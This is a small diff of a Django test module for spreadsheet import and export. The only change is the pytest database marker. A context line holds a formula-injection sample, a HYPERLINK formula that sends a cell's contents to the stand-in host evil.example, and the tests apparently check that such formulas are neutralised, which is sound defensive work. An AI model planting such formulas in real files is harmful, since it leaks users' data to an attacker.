@@ -28,7 +28,7 @@ from projects.resources import ProjectResource
 from tests.factories import ObservationFactory, ProjectFactory, RegionFactory
 from tests.test_import_export import CSV_FORMAT, XLSX_FORMAT, confirm, export, row_errors, upload
 
-pytestmark = pytest.mark.django_db(databases=["default", "counters"])
+pytestmark = pytest.mark.django_db
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 # One text for each way a spreadsheet starts a formula, and texts that look close but are not one.
